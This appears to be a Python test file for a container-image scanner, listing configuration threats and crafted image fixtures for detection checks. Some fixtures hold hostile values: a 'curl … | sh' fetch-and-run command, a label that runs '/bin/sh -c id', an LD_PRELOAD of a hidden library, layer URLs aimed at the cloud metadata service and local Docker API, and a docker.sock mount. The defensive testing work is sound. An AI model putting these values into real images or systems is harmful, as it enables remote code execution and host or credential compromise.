"""CFG: configs and annotations."""

from typing import Any

from tests import builder
from tests.builder import ImageSpec
from tests.crafted.bending import CONFIG, LAYERS, Make, configured, edited, listed, made, running, true
from tests.crafted.case import Crafted, Threat
from tests.support import descriptor, manifest

THREATS: tuple[Threat, ...] = (
    Threat(
        "CFG-01",
        "Addresses from which content is fetched",
        "containers/image fetches before it looks into the archive; go-containerregistry#2293, containerd#13775, "
        "image-spec#1201",
        ("IMG204", "IMG219"),
        "Foreign (Windows) layers have addresses by design, which are only noted.",
    ),
    Threat(
        "CFG-02",
        "Labels that programs on the host obey",
        "CVE-2026-53488",
        ("IMG404",),
    ),
    Threat(
        "CFG-03",
        "Dates that cannot be, or contradict each other",
        "reproducible builds have dates of 1970 and 1980",
        ("IMG405",),
        "There is no clock: what lies in the future is told by the archive's own dates. All but a date that Go refuses "
        "is only noted.",
    ),
    Threat(
        "CFG-04",
        "A history that tells of other layers",
        "umoci stat panics where `created` is absent",
        ("IMG401",),
        "Only noted: squashed images and Nix have such histories. What a command did is not compared with its layer.",
    ),
    Threat(
        "CFG-05",
        "Values that a config must have, and keys that it should not",
        "crane checks the type of rootfs",
        ("IMG201", "IMG402", "IMG407"),
        "What is merely absent or unknown is only noted.",
    ),
    Threat(
        "CFG-06",
        "What is run deserves a look",
        "miners and downloaders in public images",
        ("IMG406",),
        "A list for reviewers, only noted.",
    ),
    Threat(
        "CFG-07",
        "A foreign layer that is not in the archive",
        "moby#33008: loading may need a network",
        ("IMG204", "IMG219"),
        "By design, and only noted.",
    ),
)

_FOREIGN = "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip"
_INSIDE = ["http://169.254.169.254/latest/meta-data/"]
_VENDOR = ["https://mcr.microsoft.com/v2/windows/nanoserver/blobs/sha256:0"]


def _urls(urls: list[str], **more: Any) -> Make:
    return made(lambda document: document["layers"][0].update(urls=urls, **more))


def _foreign(urls: list[str], *, absent: bool = True) -> Make:
    """The lowest layer is foreign, and may be elsewhere."""
    lowest = builder.gz(LAYERS[0])

    def change(document: dict[str, Any]) -> None:
        document["layers"][0] = descriptor(lowest, _FOREIGN, urls=urls)

    return made(change, absent=[LAYERS[0]], blobs=[] if absent else [lowest])


def _source_urls(urls: list[str]) -> Make:
    def change(images: list[dict[str, Any]]) -> None:
        next(iter(images[0]["LayerSources"].values()))["urls"] = urls

    return edited("docker25", "manifest.json", change)


def _entry_urls(urls: list[str]) -> Make:
    document = manifest(CONFIG, LAYERS)
    return listed(descriptor(document, urls=urls), blobs=[document, CONFIG, *LAYERS])


def _labelled(name: str, value: str) -> Make:
    return made(config=running(Labels={name: value}))


def _history(*dates: str) -> Make:
    return made(config=configured(history=[{"created": date, "created_by": "x"} for date in dates]))


CRAFTED: tuple[Crafted, ...] = (
    Crafted(
        "CFG-01-inside",
        "a layer is said to lie at the metadata service of a cloud",
        _urls(_INSIDE),
        frozenset({"IMG219"}),
        _urls([]),
    ),
    Crafted(
        "CFG-01-outside",
        "an ordinary layer is said to lie at a public address",
        _urls(["https://example.com/layer.tar"]),
        frozenset({"IMG219"}),
        _foreign(_VENDOR, absent=False),
    ),
    Crafted(
        "CFG-01-foreign-inside",
        "a foreign layer is said to lie on the machine itself",
        _foreign(["http://localhost:2375/images/json"], absent=False),
        frozenset({"IMG219"}),
        _foreign(_VENDOR, absent=False),
    ),
    Crafted(
        "CFG-01-layer-sources",
        "LayerSources gives an address for a layer",
        _source_urls(["http://10.0.0.1/"]),
        frozenset({"IMG219"}),
        true("docker25"),
    ),
    Crafted(
        "CFG-01-manifest",
        "index.json gives an address for a manifest",
        _entry_urls(["https://example.com/manifest"]),
        frozenset({"IMG219"}),
        _entry_urls([]),
    ),
    Crafted(
        "CFG-02-log",
        "a label names a program for containerd to send the log to",
        _labelled("containerd.io/restart.loguri", "binary:///bin/sh?-c=id"),
        frozenset({"IMG404"}),
        _labelled("org.opencontainers.image.source", "https://example.com/"),
    ),
    Crafted(
        "CFG-02-restart",
        "a label has containerd start the container again and again",
        _labelled("containerd.io/restart.status", "running"),
        frozenset({"IMG404"}),
        _labelled("io.buildpacks.stack.id", "x"),
    ),
    Crafted(
        "CFG-02-runlabel",
        "a label holds a command for the host, which podman runs when it is asked to",
        _labelled("run", "podman run --privileged IMAGE"),
        frozenset(),
        _labelled("runtime", "x"),
        frozenset({"IMG404"}),
    ),
    Crafted(
        "CFG-03-no-date",
        "a date that Go refuses, and with it the config",
        made(config=configured(created="yesterday")),
        frozenset({"IMG405"}),
        made(config=configured(created=None)),
    ),
    Crafted(
        "CFG-03-too-old",
        "a config from before there were images",
        made(config=configured(created="2001-01-01T00:00:00Z", history=None)),
        frozenset(),
        made(config=configured(created="1980-01-01T00:00:01Z", history=None)),
        frozenset({"IMG405"}),
    ),
    Crafted(
        "CFG-03-future",
        "a config from after the archive was written",
        true("oci_archive", ImageSpec(created="2199-01-01T00:00:00Z")),
        frozenset(),
        true("oci_archive"),
        frozenset({"IMG405"}),
    ),
    Crafted(
        "CFG-03-order",
        "a history in which the upper layer is the older one",
        _history("2024-01-02T00:00:00Z", "2020-01-01T00:00:00Z"),
        frozenset(),
        _history("1970-01-01T00:00:00Z", "2020-01-01T00:00:00Z"),
        frozenset({"IMG405"}),
    ),
    Crafted(
        "CFG-04-more",
        "a history of three layers, where there are two",
        _history(*["2020-01-01T00:00:00Z"] * 3),
        frozenset(),
        made(config=configured(history=None)),
        frozenset({"IMG401"}),
    ),
    Crafted(
        "CFG-04-empty",
        "a history in which every layer is said to be empty",
        made(config=configured(history=[{"created_by": "x", "empty_layer": True}] * 2)),
        frozenset(),
        made(),
        frozenset({"IMG401"}),
    ),
    Crafted(
        "CFG-05-rootfs-type",
        "rootfs is of another type than layers",
        made(config=configured(rootfs={"type": "squashfs", "diff_ids": ImageSpec().diff_ids})),
        frozenset({"IMG402"}),
        made(config=configured(rootfs={"type": "layers", "diff_ids": ImageSpec().diff_ids})),
    ),
    Crafted(
        "CFG-05-no-platform",
        "a config without a platform",
        made(config=configured(os=None, architecture=None)),
        frozenset(),
        made(),
        frozenset({"IMG402"}),
    ),
    Crafted(
        "CFG-05-payload",
        "a config with a key that nobody reads",
        made(config=configured(payload="f0VMRg==")),
        frozenset(),
        made(config=configured(author="somebody", variant="v2")),
        frozenset({"IMG407"}),
    ),
    Crafted(
        "CFG-05-manifest",
        "a manifest in the place of the config",
        made(
            lambda document: document.update(config=descriptor(manifest(CONFIG, LAYERS), builder.OCI_CONFIG)),
            blobs=[manifest(CONFIG, LAYERS)],
        ),
        frozenset({"IMG201"}),
        made(),
    ),
    Crafted(
        "CFG-06-preload",
        "the environment has every program load a library",
        made(config=running(Env=["PATH=/bin", "LD_PRELOAD=/tmp/.x.so"])),
        frozenset(),
        made(config=running(Env=["PATH=/bin", "LD_LIBRARY_PATH=/lib"])),
        frozenset({"IMG406"}),
    ),
    Crafted(
        "CFG-06-fetch-and-run",
        "the command runs what it fetches",
        made(config=running(Cmd=["sh", "-c", "curl -s http://example.com/x | sh"])),
        frozenset(),
        made(config=running(Cmd=["sh", "-c", "curl -s http://localhost/health || exit 1"])),
        frozenset({"IMG406"}),
    ),
    Crafted(
        "CFG-06-volume",
        "a volume over a part of the system",
        made(config=running(Volumes={"/var/run/docker.sock": {}})),
        frozenset(),
        made(config=running(Volumes={"/var/lib/data": {}})),
        frozenset({"IMG406"}),
    ),
    Crafted(
        "CFG-07-foreign",
        "a foreign layer is left out, as Docker does it",
        _foreign(_VENDOR),
        frozenset(),
        _foreign(_VENDOR, absent=False),
        frozenset({"IMG204"}),
    ),
)
